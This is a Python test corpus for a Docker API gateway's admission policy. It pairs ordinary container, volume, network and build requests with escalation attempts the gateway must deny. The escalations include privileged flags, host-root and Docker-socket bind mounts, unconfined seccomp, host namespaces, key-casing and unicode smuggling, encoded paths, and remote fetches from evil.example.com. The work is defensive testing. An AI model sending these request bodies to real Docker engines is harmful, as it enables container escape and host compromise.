"""The admission-policy corpus: escalation attempts that must be denied and ordinary requests that must pass.

Each case is a raw Docker API call as the gateway sees it. The names below are fixed so that the engine test
can make them real: POLICY_MINE is a container the requester owns, POLICY_THEIRS one of another team,
OPT_VOLUME a volume created with driver options, USER_NETWORK a user-defined network, BIND_PREFIX the one
host path prefix allowed for bind mounts.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from hosts.policy import PolicySettings
from tests.testbed.images import LOCAL_TAG

IMAGE = LOCAL_TAG  # docker.io/dwtest/busybox, present on the testbed engines
POLICY_MINE = "policy-mine"
POLICY_THEIRS = "policy-theirs"
MINE_EXEC = "0123456789abcdef" * 4  # only the fake knows it; the engine test makes a real one
THEIRS_EXEC = "fedcba9876543210" * 4  # an exec id as the engine makes them (hex), which the engine lacks
OPT_VOLUME = "policy-optvol"
USER_NETWORK = "policy-net"
BIND_PREFIX = "/tmp/dockerweb-policy-binds"
REGISTRY_IMAGE = "localhost:5000/busybox:1"  # the engine test tags IMAGE so on the engine
MiB = 1 << 20
JSON = "application/json"

SETTINGS = PolicySettings(
    allowed_bind_prefixes=(BIND_PREFIX,),
    allowed_registries=("docker.io/dwtest/*", "localhost:5000/*", "registry.internal"),
    max_memory=1024 * MiB,
    max_nano_cpus=2_000_000_000,
    default_memory=256 * MiB,
    default_nano_cpus=1_000_000_000,
)


@dataclass(frozen=True)
class Case:
    """One raw API call; `rule`/`field` are the expected denial (None for an ordinary request)."""

    name: str
    method: str
    path: str
    body: Any = None  # a dict or list is sent as JSON, bytes as they are, None as no body
    content_type: str | None = JSON
    query: Mapping[str, list[str]] = field(default_factory=dict)
    rule: str | None = None
    field: str | None = None

    @property
    def raw(self) -> bytes:
        if self.body is None:
            return b""
        if isinstance(self.body, bytes):
            return self.body
        return json.dumps(self.body).encode()

    @property
    def is_container_create(self) -> bool:
        return self.method == "POST" and self.path.removeprefix("/v1.41") == "/containers/create"


def create(host_config: dict[str, Any] | None = None, **config: Any) -> dict[str, Any]:
    """A container-create body for IMAGE."""
    body: dict[str, Any] = {"Image": IMAGE, **config}
    if host_config is not None:
        body["HostConfig"] = host_config
    return body


# What `docker run` (CLI 28.2.2) sent for: --name cli1 -p 8080:80 -e A=1 -v policy-cli-data:/data
# --memory 64m --cpus 0.5 --restart unless-stopped --label x=y --health-cmd true --tmpfs /run --user 1000
# -w /tmp --read-only --cap-drop ALL --cap-add NET_BIND_SERVICE dwtest/busybox:latest sleep 1 (captured
# through a relay).
CLI_RUN_BODY = json.loads("""{"Hostname":"","Domainname":"","User":"1000","AttachStdin":false,
"AttachStdout":true,"AttachStderr":true,"ExposedPorts":{"80/tcp":{}},"Tty":false,"OpenStdin":false,
"StdinOnce":false,"Env":["A=1"],"Cmd":["sleep","1"],"Healthcheck":{"Test":["CMD-SHELL","true"]},
"Image":"dwtest/busybox:latest","Volumes":{},"WorkingDir":"/tmp","Entrypoint":null,"OnBuild":null,
"Labels":{"x":"y"},"HostConfig":{"Binds":["policy-cli-data:/data"],"ContainerIDFile":"",
"LogConfig":{"Type":"","Config":{}},"NetworkMode":"default","PortBindings":{"80/tcp":[{"HostIp":"",
"HostPort":"8080"}]},"RestartPolicy":{"Name":"unless-stopped","MaximumRetryCount":0},"AutoRemove":false,
"VolumeDriver":"","VolumesFrom":null,"ConsoleSize":[0,0],"CapAdd":["CAP_NET_BIND_SERVICE"],
"CapDrop":["ALL"],"CgroupnsMode":"","Dns":[],"DnsOptions":[],"DnsSearch":[],"ExtraHosts":null,
"GroupAdd":null,"IpcMode":"","Cgroup":"","Links":null,"OomScoreAdj":0,"PidMode":"","Privileged":false,
"PublishAllPorts":false,"ReadonlyRootfs":true,"SecurityOpt":null,"Tmpfs":{"/run":""},"UTSMode":"",
"UsernsMode":"","ShmSize":0,"Isolation":"","CpuShares":0,"Memory":67108864,"NanoCpus":500000000,
"CgroupParent":"","BlkioWeight":0,"BlkioWeightDevice":[],"BlkioDeviceReadBps":[],"BlkioDeviceWriteBps":[],
"BlkioDeviceReadIOps":[],"BlkioDeviceWriteIOps":[],"CpuPeriod":0,"CpuQuota":0,"CpuRealtimePeriod":0,
"CpuRealtimeRuntime":0,"CpusetCpus":"","CpusetMems":"","Devices":[],"DeviceCgroupRules":null,
"DeviceRequests":null,"MemoryReservation":0,"MemorySwap":0,"MemorySwappiness":-1,"OomKillDisable":false,
"PidsLimit":0,"Ulimits":[],"CpuCount":0,"CpuPercent":0,"IOMaximumIOps":0,"IOMaximumBandwidth":0,
"MaskedPaths":null,"ReadonlyPaths":null},"NetworkingConfig":{"EndpointsConfig":{"default":{
"IPAMConfig":null,"Links":null,"Aliases":null,"MacAddress":"","DriverOpts":null,"GwPriority":0,
"NetworkID":"","EndpointID":"","Gateway":"","IPAddress":"","IPPrefixLen":0,"IPv6Gateway":"",
"GlobalIPv6Address":"","GlobalIPv6PrefixLen":0,"DNSNames":null}}}}""")

# What docker-py 7.2 (APIClient.create_container_config + create_host_config) sends, None values dropped.
SDK_RUN_BODY = json.loads("""{"ExposedPorts":{"8080/tcp":{}},"User":"nobody","Tty":false,"OpenStdin":false,
"StdinOnce":false,"AttachStdin":false,"AttachStdout":true,"AttachStderr":true,"Env":["A=1"],
"Cmd":["sleep","60"],"Image":"dwtest/busybox:latest","NetworkDisabled":false,"WorkingDir":"/",
"HostConfig":{"Memory":134217728,"ReadonlyRootfs":true,"NetworkMode":"default","RestartPolicy":{
"Name":"on-failure","MaximumRetryCount":3},"CapAdd":["CHOWN"],"CapDrop":["ALL"],
"Binds":["policy-sdk-data:/data:rw"],"PortBindings":{"8080/tcp":[{"HostIp":"","HostPort":"8080"}]},
"Tmpfs":{"/run":"size=1m"},"Init":true},"Labels":{"app":"sdk"},"Healthcheck":{"Test":["CMD","true"],
"Interval":1000000000,"Timeout":null,"Retries":null,"StartPeriod":null}}""")


def _ordinary_create(name: str, body: Any, path: str = "/containers/create") -> Case:
    return Case(name, "POST", path, body)


ORDINARY: list[Case] = [
    _ordinary_create("cli-28-run-with-everything", CLI_RUN_BODY, "/v1.41/containers/create"),
    _ordinary_create("docker-py-run", SDK_RUN_BODY),
    _ordinary_create("minimal", create()),
    _ordinary_create("plain-run-with-cmd", create({}, Cmd=["echo", "hello"])),
    _ordinary_create(
        "ports-published",
        create({"PortBindings": {"80/tcp": [{"HostPort": "8081"}]}}, ExposedPorts={"80/tcp": {}}),
    ),
    _ordinary_create("publish-all-ports", create({"PublishAllPorts": True}, ExposedPorts={"80/tcp": {}})),
    _ordinary_create("env-vars", create({}, Env=["A=1", "DATABASE_URL=postgres://db/app"])),
    _ordinary_create(
        "named-volume-bind-syntax", create({"Binds": ["policy-data:/data", "policy-data2:/ro:ro"]})
    ),
    _ordinary_create(
        "named-volume-mount",
        create({"Mounts": [{"Type": "volume", "Source": "policy-data3", "Target": "/data"}]}),
    ),
    _ordinary_create(
        "volume-mount-local-driver-no-options",
        create(
            {
                "Mounts": [
                    {
                        "Type": "volume",
                        "Source": "policy-data4",
                        "Target": "/d",
                        "VolumeOptions": {"Labels": {"a": "b"}, "DriverConfig": {"Name": "local"}},
                    }
                ]
            }
        ),
    ),
    _ordinary_create("anonymous-volume", create({}, Volumes={"/cache": {}})),
    _ordinary_create("tmpfs-mount", create({"Mounts": [{"Type": "tmpfs", "Target": "/scratch"}]})),
    _ordinary_create("tmpfs-hostconfig", create({"Tmpfs": {"/run": "size=64m,noexec"}})),
    _ordinary_create("limits-within-max", create({"Memory": 512 * MiB, "NanoCpus": 1_500_000_000})),
    _ordinary_create("limits-at-max", create({"Memory": 1024 * MiB, "NanoCpus": 2_000_000_000})),
    _ordinary_create("cpu-quota-within-max", create({"CpuQuota": 50_000, "CpuPeriod": 100_000})),
    _ordinary_create("cpu-period-only-gets-a-quota", create({"CpuPeriod": 50_000})),
    _ordinary_create("restart-always", create({"RestartPolicy": {"Name": "always"}})),
    _ordinary_create(
        "restart-on-failure", create({"RestartPolicy": {"Name": "on-failure", "MaximumRetryCount": 5}})
    ),
    _ordinary_create("labels", create({}, Labels={"app": "web", "tier": "front"})),
    _ordinary_create(
        "healthcheck",
        create({}, Healthcheck={"Test": ["CMD-SHELL", "true"], "Interval": 5_000_000_000, "Retries": 3}),
    ),
    _ordinary_create("user-and-workdir", create({}, User="1000:1000", WorkingDir="/tmp")),
    _ordinary_create("entrypoint-and-cmd", create({}, Entrypoint=["/bin/sh", "-c"], Cmd=["echo hi"])),
    _ordinary_create("network-bridge", create({"NetworkMode": "bridge"})),
    _ordinary_create("network-none", create({"NetworkMode": "none"})),
    _ordinary_create("network-user-defined", create({"NetworkMode": USER_NETWORK})),
    _ordinary_create("network-of-own-container", create({"NetworkMode": f"container:{POLICY_MINE}"})),
    _ordinary_create("ipc-of-own-container", create({"IpcMode": f"container:{POLICY_MINE}"})),
    _ordinary_create("ipc-shareable", create({"IpcMode": "shareable"})),
    _ordinary_create("volumes-from-own-container", create({"VolumesFrom": [f"{POLICY_MINE}:ro"]})),
    _ordinary_create("link-to-own-container", create({"Links": [f"{POLICY_MINE}:db"]})),
    _ordinary_create("cap-add-net-bind-service", create({"CapAdd": ["NET_BIND_SERVICE"]})),
    _ordinary_create("cap-add-lowercase-prefixed", create({"CapAdd": ["cap_chown", "Kill"]})),
    _ordinary_create("cap-drop-all", create({"CapDrop": ["ALL"]})),
    _ordinary_create("read-only-rootfs", create({"ReadonlyRootfs": True})),
    _ordinary_create("bind-under-allowed-prefix", create({"Binds": [f"{BIND_PREFIX}/app:/app"]})),
    _ordinary_create(
        "bind-under-allowed-prefix-unclean", create({"Binds": [f"{BIND_PREFIX}/./a//b/:/b:ro"]})
    ),
    _ordinary_create(
        "mount-bind-under-allowed-prefix",
        create(
            {"Mounts": [{"Type": "bind", "Source": f"{BIND_PREFIX}/ro", "Target": "/ro", "ReadOnly": True}]}
        ),
    ),
    _ordinary_create(
        "no-new-privileges", create({"SecurityOpt": ["no-new-privileges", "no-new-privileges:true"]})
    ),
    _ordinary_create("default-seccomp-profile", create({"SecurityOpt": ["seccomp=builtin"]})),
    _ordinary_create("allowed-sysctl", create({"Sysctls": {"net.ipv4.ip_unprivileged_port_start": "0"}})),
    _ordinary_create("runtime-runc", create({"Runtime": "runc"})),
    _ordinary_create(
        "log-json-file-rotation", create({"LogConfig": {"Type": "json-file", "Config": {"max-size": "1m"}}})
    ),
    _ordinary_create(
        "misc-safe-options",
        create(
            {
                "Init": True,
                "ShmSize": 64 * MiB,
                "PidsLimit": 100,
                "ExtraHosts": ["db:10.0.0.2"],
                "Dns": ["10.0.0.53"],
                "Ulimits": [{"Name": "nofile", "Soft": 1024, "Hard": 2048}],
                "GroupAdd": ["audio"],
                "OomScoreAdj": 100,
            },
            StopTimeout=5,
            StopSignal="SIGINT",
        ),
    ),
    _ordinary_create(
        "lowercase-keys",
        {"image": IMAGE, "cmd": ["true"], "hostconfig": {"memory": 128 * MiB, "capdrop": ["ALL"]}},
    ),
    _ordinary_create(
        "toplevel-zero-hostconfig-fields", create(None, Memory=0, Privileged=False, MaskedPaths=None)
    ),
    _ordinary_create("image-from-allowed-registry", {"Image": REGISTRY_IMAGE}),
    Case("exec-in-own-container", "POST", f"/containers/{POLICY_MINE}/exec", {"Cmd": ["ls"], "User": "root"}),
    Case("exec-start-own", "POST", f"/exec/{MINE_EXEC}/start", {"Detach": False, "Tty": False}),
    Case("start-no-body", "POST", f"/containers/{POLICY_MINE}/start", None, None),
    Case("stop", "POST", f"/containers/{POLICY_MINE}/stop", None, None, {"t": ["5"]}),
    Case(
        "update-within-max",
        "POST",
        f"/containers/{POLICY_MINE}/update",
        {"Memory": 512 * MiB, "MemorySwap": -1},
    ),
    Case("volume-create", "POST", "/volumes/create", {"Name": "policy-v1", "Labels": {"a": "b"}}),
    Case(
        "volume-create-local",
        "POST",
        "/volumes/create",
        {"Name": "policy-v2", "Driver": "local", "DriverOpts": {}},
    ),
    Case("network-create-bridge", "POST", "/networks/create", {"Name": "policy-n1", "Driver": "bridge"}),
    Case(
        "network-create-internal",
        "POST",
        "/networks/create",
        {"Name": "policy-n2", "Internal": True, "Options": {"com.docker.network.bridge.enable_icc": "false"}},
    ),
    Case("network-connect-own", "POST", f"/networks/{USER_NETWORK}/connect", {"Container": POLICY_MINE}),
    Case(
        "pull-allowed", "POST", "/images/create", None, None, {"fromImage": ["dwtest/busybox"], "tag": ["1"]}
    ),
    Case(
        "import-from-body",
        "POST",
        "/images/create",
        b"",
        "application/x-tar",
        {"fromSrc": ["-"], "repo": ["x"]},
    ),
    Case(
        "build-classic",
        "POST",
        "/build",
        None,
        "application/x-tar",
        {"t": ["app:1"], "networkmode": ["bridge"], "memory": [str(512 * MiB)], "version": ["1"]},
    ),
    Case("commit-own", "POST", "/commit", None, None, {"container": [POLICY_MINE], "repo": ["snap"]}),
    Case("list-containers", "GET", "/containers/json", None, None, {"all": ["1"]}),
    Case("inspect-image", "GET", "/v1.41/images/dwtest/busybox:latest/json", None, None),
    Case("ping", "HEAD", "/_ping", None, None),
    Case("remove-container", "DELETE", f"/containers/{POLICY_MINE}", None, None, {"force": ["1"]}),
]


def _esc(name: str, rule: str, field: str, body: Any, **kwargs: Any) -> Case:
    """A container create that must be denied."""
    return Case(
        name, "POST", kwargs.pop("path", "/containers/create"), body, rule=rule, field=field, **kwargs
    )


def _hc(name: str, rule: str, field: str, host_config: dict[str, Any]) -> Case:
    return _esc(name, rule, field, create(host_config))


_IMAGE_JSON = json.dumps(IMAGE)
_HUGE = create({}, Env=["PAD=" + "x" * (1 << 20)])

ESCALATIONS: list[Case] = [
    # Privileged, every way the engine reads it.
    _hc("privileged", "no-privileged", "HostConfig.Privileged", {"Privileged": True}),
    _esc(
        "privileged-lowercase",
        "no-privileged",
        "HostConfig.Privileged",
        {"image": IMAGE, "hostconfig": {"privileged": True}},
    ),
    _esc(
        "privileged-mixed-case",
        "no-privileged",
        "HostConfig.Privileged",
        {"IMAGE": IMAGE, "hostConfig": {"PrIvIlEgEd": True}},
    ),
    _esc(
        "privileged-unicode-long-s-key",
        "no-privileged",
        "HostConfig.Privileged",
        {"Image": IMAGE, "Ho\u017ftConfig": {"Privileged": True}},
    ),
    _esc(
        "privileged-duplicate-keys",
        "duplicate-key",
        "privileged",
        b'{"Image":%s,"HostConfig":{"Privileged":false,"privileged":true}}' % _IMAGE_JSON.encode(),
    ),
    _esc(
        "hostconfig-exact-duplicate-merges",
        "duplicate-key",
        "HostConfig",
        b'{"Image":%s,"HostConfig":{"Privileged":true},"HostConfig":{"Memory":0}}' % _IMAGE_JSON.encode(),
    ),
    _esc(
        "hostconfig-case-duplicate",
        "duplicate-key",
        "hostconfig",
        {"Image": IMAGE, "HostConfig": {}, "hostconfig": {"Privileged": True}},
    ),
    _esc(
        "privileged-top-level", "no-toplevel-hostconfig", "Privileged", {"Image": IMAGE, "Privileged": True}
    ),
    _esc(
        "binds-top-level-hostconfig-null",
        "no-toplevel-hostconfig",
        "Binds",
        {"Image": IMAGE, "HostConfig": None, "binds": ["/:/host"]},
    ),
    _esc(
        "privileged-not-a-boolean", "bad-field-type", "HostConfig.Privileged", create({"Privileged": "true"})
    ),
    # Host paths.
    _hc("bind-host-root", "no-bind-mounts", "HostConfig.Binds[0]", {"Binds": ["/:/host"]}),
    _hc(
        "bind-docker-socket",
        "no-bind-mounts",
        "HostConfig.Binds[1]",
        {"Binds": ["policy-data:/data", "/var/run/docker.sock:/var/run/docker.sock"]},
    ),
    _hc(
        "bind-traversal-out-of-prefix",
        "no-bind-mounts",
        "HostConfig.Binds[0]",
        {"Binds": [f"{BIND_PREFIX}/../../etc:/etc2:ro"]},
    ),
    _hc(
        "bind-sibling-of-prefix",
        "no-bind-mounts",
        "HostConfig.Binds[0]",
        {"Binds": [f"{BIND_PREFIX}-evil:/x"]},
    ),
    _hc("bind-windows-looking", "no-bind-mounts", "HostConfig.Binds[0]", {"Binds": ["C:\\:/host"]}),
    _esc(
        "bind-lowercase-keys",
        "no-bind-mounts",
        "HostConfig.Binds[0]",
        {"image": IMAGE, "hostconfig": {"binds": ["/etc:/host-etc"]}},
    ),
    _hc(
        "mount-bind",
        "no-bind-mounts",
        "HostConfig.Mounts[0].Source",
        {"Mounts": [{"Type": "bind", "Source": "/etc", "Target": "/x"}]},
    ),
    _esc(
        "mount-bind-uppercase-type-lowercase-keys",
        "no-bind-mounts",
        "HostConfig.Mounts[0].Source",
        {"image": IMAGE, "hostconfig": {"mounts": [{"type": "BIND", "source": "/", "target": "/h"}]}},
    ),
    _hc(
        "mount-npipe",
        "mount-type",
        "HostConfig.Mounts[0].Type",
        {"Mounts": [{"Type": "npipe", "Source": "/run/x", "Target": "/x"}]},
    ),
    _hc(
        "mount-volume-driver-opts",
        "no-volume-driver-opts",
        "HostConfig.Mounts[0].VolumeOptions.DriverConfig.Options",
        {
            "Mounts": [
                {
                    "Type": "volume",
                    "Source": "sneaky",
                    "Target": "/x",
                    "VolumeOptions": {
                        "DriverConfig": {
                            "Name": "local",
                            "Options": {"type": "none", "o": "bind", "device": "/"},
                        }
                    },
                }
            ]
        },
    ),
    _hc(
        "bind-existing-volume-with-driver-opts",
        "no-volume-driver-opts",
        "HostConfig.Binds[0]",
        {"Binds": [f"{OPT_VOLUME}:/x"]},
    ),
    _hc(
        "mount-existing-volume-with-driver-opts",
        "no-volume-driver-opts",
        "HostConfig.Mounts[0].Source",
        {"Mounts": [{"Type": "volume", "Source": OPT_VOLUME, "Target": "/x"}]},
    ),
    _hc(
        "hostconfig-volume-driver-plugin",
        "volume-driver",
        "HostConfig.VolumeDriver",
        {"VolumeDriver": "local-persist", "Binds": ["v:/x"]},
    ),
    _hc(
        "volumes-from-not-owned",
        "volumes-from-not-owned",
        "HostConfig.VolumesFrom[0]",
        {"VolumesFrom": [f"{POLICY_THEIRS}:ro"]},
    ),
    _hc("link-not-owned", "links-not-owned", "HostConfig.Links[0]", {"Links": [f"/{POLICY_THEIRS}:db"]}),
    # Capabilities.
    _hc("cap-add-all", "capability", "HostConfig.CapAdd", {"CapAdd": ["ALL"]}),
    _hc("cap-add-cap-sys-admin-lowercase", "capability", "HostConfig.CapAdd", {"CapAdd": ["cap_sys_admin"]}),
    _hc("cap-add-single-string", "capability", "HostConfig.CapAdd", {"CapAdd": "SYS_PTRACE"}),
    _hc("cap-add-unicode-long-s", "capability", "HostConfig.CapAdd", {"CapAdd": ["\u017fys_admin"]}),
    _hc("cap-add-not-on-allowlist", "capability", "HostConfig.CapAdd", {"CapAdd": ["CHOWN", "SYS_TIME"]}),
    _hc(
        "capabilities-api-1-40", "capability", "HostConfig.Capabilities", {"Capabilities": ["CAP_NET_ADMIN"]}
    ),
    # Security options.
    _hc(
        "seccomp-unconfined",
        "security-opt",
        "HostConfig.SecurityOpt",
        {"SecurityOpt": ["seccomp=unconfined"]},
    ),
    _hc(
        "seccomp-colon-unconfined",
        "security-opt",
        "HostConfig.SecurityOpt",
        {"SecurityOpt": ["seccomp:unconfined"]},
    ),
    _hc(
        "seccomp-inline-profile",
        "security-opt",
        "HostConfig.SecurityOpt",
        {"SecurityOpt": ['seccomp={"defaultAction":"SCMP_ACT_ALLOW"}']},
    ),
    _hc(
        "apparmor-unconfined",
        "security-opt",
        "HostConfig.SecurityOpt",
        {"SecurityOpt": ["apparmor=unconfined"]},
    ),
    _hc(
        "apparmor-colon-unconfined",
        "security-opt",
        "HostConfig.SecurityOpt",
        {"SecurityOpt": ["apparmor:unconfined"]},
    ),
    _hc("label-disable", "security-opt", "HostConfig.SecurityOpt", {"SecurityOpt": ["label=disable"]}),
    _hc("label-colon-disable", "security-opt", "HostConfig.SecurityOpt", {"SecurityOpt": ["label:disable"]}),
    _hc("bare-disable", "security-opt", "HostConfig.SecurityOpt", {"SecurityOpt": ["disable"]}),
    _hc("label-type-spc", "security-opt", "HostConfig.SecurityOpt", {"SecurityOpt": ["label=type:spc_t"]}),
    _hc(
        "label-level-of-another-team",
        "security-opt",
        "HostConfig.SecurityOpt",
        {"SecurityOpt": ["no-new-privileges", "label=level:s0:c100,c200"]},
    ),
    _hc(
        "systempaths-unconfined",
        "security-opt",
        "HostConfig.SecurityOpt",
        {"SecurityOpt": ["systempaths=unconfined"]},
    ),
    _hc(
        "no-new-privileges-false",
        "security-opt",
        "HostConfig.SecurityOpt",
        {"SecurityOpt": ["no-new-privileges=false"]},
    ),
    # Namespaces.
    _hc("network-host", "host-namespace", "HostConfig.NetworkMode", {"NetworkMode": "host"}),
    _esc(
        "network-host-lowercase-keys",
        "host-namespace",
        "HostConfig.NetworkMode",
        {"image": IMAGE, "hostconfig": {"networkmode": "HOST"}},
    ),
    _hc("pid-host", "host-namespace", "HostConfig.PidMode", {"PidMode": "host"}),
    _hc("ipc-host", "host-namespace", "HostConfig.IpcMode", {"IpcMode": "host"}),
    _hc("uts-host", "host-namespace", "HostConfig.UTSMode", {"UTSMode": "host"}),
    _hc("userns-host", "host-namespace", "HostConfig.UsernsMode", {"UsernsMode": "host"}),
    _hc("cgroupns-host", "host-namespace", "HostConfig.CgroupnsMode", {"CgroupnsMode": "host"}),
    _hc(
        "pid-of-container-not-owned",
        "namespace-not-owned",
        "HostConfig.PidMode",
        {"PidMode": f"container:{POLICY_THEIRS}"},
    ),
    _hc(
        "network-of-container-not-owned",
        "namespace-not-owned",
        "HostConfig.NetworkMode",
        {"NetworkMode": f"container:{POLICY_THEIRS}"},
    ),
    _hc(
        "ipc-of-container-not-owned",
        "namespace-not-owned",
        "HostConfig.IpcMode",
        {"IpcMode": f"container:{POLICY_THEIRS}"},
    ),
    # Devices, cgroups, runtime, sysctls, protected paths.
    _hc(
        "device",
        "no-devices",
        "HostConfig.Devices",
        {"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda", "CgroupPermissions": "rwm"}]},
    ),
    _hc(
        "device-request-gpus",
        "no-devices",
        "HostConfig.DeviceRequests",
        {"DeviceRequests": [{"Driver": "nvidia", "Count": -1, "Capabilities": [["gpu"]]}]},
    ),
    _hc(
        "device-cgroup-rule",
        "no-devices",
        "HostConfig.DeviceCgroupRules",
        {"DeviceCgroupRules": ["a *:* rwm"]},
    ),
    _hc("cgroup-parent", "no-cgroup-parent", "HostConfig.CgroupParent", {"CgroupParent": "/"}),
    _hc("runtime-other", "runtime", "HostConfig.Runtime", {"Runtime": "io.containerd.runsc.v1"}),
    _hc("sysctl-kernel", "sysctl", "HostConfig.Sysctls", {"Sysctls": {"kernel.shmmax": "1"}}),
    _hc("sysctl-net-not-listed", "sysctl", "HostConfig.Sysctls", {"Sysctls": {"net.ipv4.ip_forward": "1"}}),
    _hc("masked-paths-empty", "no-masked-paths", "HostConfig.MaskedPaths", {"MaskedPaths": []}),
    _hc("readonly-paths-empty", "no-readonly-paths", "HostConfig.ReadonlyPaths", {"ReadonlyPaths": []}),
    _hc(
        "masked-paths-kelvin-sign-key", "no-masked-paths", "HostConfig.MaskedPaths", {"Mas\u212aedPaths": []}
    ),
    _hc(
        "log-driver-syslog-to-anywhere",
        "log-driver",
        "HostConfig.LogConfig.Type",
        {"LogConfig": {"Type": "syslog", "Config": {"syslog-address": "tcp://10.0.0.1:514"}}},
    ),
    # Images and limits.
    _esc("image-from-unlisted-registry", "registry", "Image", {"Image": "evil.example.com/miner:latest"}),
    _esc("image-from-docker-hub-library", "registry", "Image", {"Image": "busybox"}),
    _hc("memory-above-max", "limits", "HostConfig.Memory", {"Memory": 2048 * MiB}),
    _hc("nano-cpus-above-max", "limits", "HostConfig.NanoCpus", {"NanoCpus": 4_000_000_000}),
    _hc("cpu-quota-above-max", "limits", "HostConfig.CpuQuota", {"CpuQuota": 400_000, "CpuPeriod": 100_000}),
    _hc("cpu-quota-unlimited", "limits", "HostConfig.CpuQuota", {"CpuQuota": -1}),
    _esc(
        "memory-top-level-merged-into-hostconfig",
        "no-toplevel-hostconfig",
        "Memory",
        {"Image": IMAGE, "Memory": 8192 * MiB, "HostConfig": {}},
    ),
    # Parsing.
    _esc("body-over-1-mib", "body-too-large", "body", _HUGE),
    _esc("content-type-text-plain", "bad-content-type", "Content-Type", create(), content_type="text/plain"),
    _esc("content-type-missing", "bad-content-type", "Content-Type", create(), content_type=None),
    _esc(
        "content-type-json-lookalike",
        "bad-content-type",
        "Content-Type",
        create(),
        content_type="application/json-patch+json",
    ),
    _esc("json-array", "body-not-object", "body", [create()]),
    _esc("json-unparseable", "bad-json", "body", b'{"Image": "x", "HostConfig": {'),
    _esc(
        "json-trailing-object",
        "bad-json",
        "body",
        b'{"Image":%s} {"HostConfig":{"Privileged":true}}' % _IMAGE_JSON.encode(),
    ),
    _esc("json-nan", "bad-json", "body", b'{"Image":"x","HostConfig":{"Memory":NaN}}'),
    _esc("json-deeply-nested", "bad-json", "body", b'{"Labels":' + b"[" * 50_000 + b"]" * 50_000 + b"}"),
    _esc("json-invalid-utf8", "bad-json", "body", b'{"Image":"\xff\xfe"}'),
    _esc("json-number-out-of-range", "bad-json", "body", b'{"Image":"x","Healthcheck":{"Interval":1e400}}'),
    # Paths that reach the create route though they do not look like it.
    _esc(
        "percent-encoded-path",
        "no-privileged",
        "HostConfig.Privileged",
        create({"Privileged": True}),
        path="/v1.41/containers%2Fcreate",
    ),
    _esc(
        "dot-segment-path",
        "no-privileged",
        "HostConfig.Privileged",
        create({"Privileged": True}),
        path="/v1.41/containers/x/../create",
    ),
    # Other endpoints.
    Case(
        "exec-privileged",
        "POST",
        f"/containers/{POLICY_MINE}/exec",
        {"Cmd": ["sh"], "Privileged": True},
        rule="no-privileged",
        field="Privileged",
    ),
    Case(
        "exec-privileged-lowercase",
        "POST",
        f"/containers/{POLICY_MINE}/exec",
        {"cmd": ["sh"], "privileged": True},
        rule="no-privileged",
        field="Privileged",
    ),
    Case(
        "exec-into-not-owned",
        "POST",
        f"/containers/{POLICY_THEIRS}/exec",
        {"Cmd": ["sh"]},
        rule="exec-not-owned",
        field="container",
    ),
    Case(
        "exec-start-not-owned",
        "POST",
        f"/exec/{THEIRS_EXEC}/start",
        {"Detach": True},
        rule="exec-not-owned",
        field="exec",
    ),
    Case(
        "start-with-host-config",
        "POST",
        f"/v1.23/containers/{POLICY_MINE}/start",
        {"Privileged": True},
        rule="no-start-config",
        field="body",
    ),
    Case(
        "update-memory-above-max",
        "POST",
        f"/containers/{POLICY_MINE}/update",
        {"memory": 4096 * MiB},
        rule="limits",
        field="Memory",
    ),
    Case(
        "update-cpu-quota-alone",
        "POST",
        f"/containers/{POLICY_MINE}/update",
        {"CpuQuota": 200_000},
        rule="limits",
        field="CpuQuota",
    ),
    Case(
        "volume-driver-opts-bind",
        "POST",
        "/volumes/create",
        {"Name": "v", "DriverOpts": {"type": "none", "o": "bind", "device": "/etc"}},
        rule="no-volume-driver-opts",
        field="DriverOpts",
    ),
    Case(
        "volume-driver-opts-lowercase",
        "POST",
        "/volumes/create",
        {"name": "v", "driveropts": {"device": "/"}},
        rule="no-volume-driver-opts",
        field="DriverOpts",
    ),
    Case(
        "volume-driver-plugin",
        "POST",
        "/volumes/create",
        {"Name": "v", "Driver": "sshfs"},
        rule="volume-driver",
        field="Driver",
    ),
    Case(
        "network-macvlan",
        "POST",
        "/networks/create",
        {"Name": "n", "Driver": "macvlan", "Options": {"parent": "eth0"}},
        rule="network-driver",
        field="Driver",
    ),
    Case(
        "network-ipvlan",
        "POST",
        "/networks/create",
        {"Name": "n", "Driver": "ipvlan"},
        rule="network-driver",
        field="Driver",
    ),
    Case(
        "network-host-lowercase",
        "POST",
        "/networks/create",
        {"name": "n", "driver": "HOST"},
        rule="network-driver",
        field="Driver",
    ),
    Case(
        "network-adopts-host-bridge",
        "POST",
        "/networks/create",
        {"Name": "n", "Options": {"com.docker.network.bridge.name": "br0"}},
        rule="network-config",
        field="Options.com.docker.network.bridge.name",
    ),
    Case(
        "network-config-from",
        "POST",
        "/networks/create",
        {"Name": "n", "Driver": "bridge", "ConfigFrom": {"Network": "admins-macvlan-config"}},
        rule="network-config",
        field="ConfigFrom",
    ),
    Case(
        "network-connect-not-owned",
        "POST",
        f"/networks/{USER_NETWORK}/connect",
        {"Container": POLICY_THEIRS},
        rule="container-not-owned",
        field="Container",
    ),
    Case(
        "import-from-url",
        "POST",
        "/images/create",
        None,
        None,
        {"fromSrc": ["http://evil.example.com/x.tar"]},
        rule="no-remote-fetch",
        field="fromSrc",
    ),
    Case(
        "import-from-bare-host",
        "POST",
        "/images/create",
        None,
        None,
        {"fromSrc": ["evil.example.com"]},
        rule="no-remote-fetch",
        field="fromSrc",
    ),
    Case(
        "import-url-in-form-body",
        "POST",
        "/images/create",
        b"fromSrc=http://evil.example.com/x.tar",
        "application/x-www-form-urlencoded",
        rule="no-form-body",
        field="Content-Type",
    ),
    Case(
        "pull-unlisted-registry",
        "POST",
        "/images/create",
        None,
        None,
        {"fromImage": ["evil.example.com/x"]},
        rule="registry",
        field="fromImage",
    ),
    Case(
        "build-network-host",
        "POST",
        "/build",
        None,
        "application/x-tar",
        {"t": ["x"], "networkmode": ["host"]},
        rule="host-namespace",
        field="networkmode",
    ),
    Case(
        "build-cgroup-parent",
        "POST",
        "/build",
        None,
        "application/x-tar",
        {"cgroupparent": ["/"]},
        rule="no-cgroup-parent",
        field="cgroupparent",
    ),
    Case(
        "build-remote-context",
        "POST",
        "/build",
        None,
        None,
        {"remote": ["https://evil.example.com/ctx.tar"]},
        rule="no-remote-fetch",
        field="remote",
    ),
    Case(
        "build-buildkit",
        "POST",
        "/build",
        None,
        "application/x-tar",
        {"version": ["2"], "session": ["s"]},
        rule="no-buildkit",
        field="version",
    ),
    Case("swarm-init", "POST", "/swarm/init", {"ListenAddr": "0.0.0.0:2377"}, rule="no-swarm", field="path"),
